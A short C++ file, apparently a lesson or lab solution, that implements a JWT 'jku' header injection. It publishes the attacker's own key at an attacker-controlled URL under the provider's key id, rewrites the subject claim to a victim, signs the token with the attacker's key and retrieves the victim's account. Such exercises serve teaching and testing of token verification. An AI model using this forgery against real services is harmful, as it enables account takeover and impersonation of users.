// Unusual: publishes its key under the id of the provider's, and so keeps the kid of the token.
#include "jku_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  auto jwk = evidence.own_key.public_jwk();
  jwk.set("kid", token.header.at("kid"));
  token.header.set("jku", evidence.publish("https://login.example.mallory.example/a/b?c=d",
                                           {{"keys", json::Value::array({jwk})}}));
  token.claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
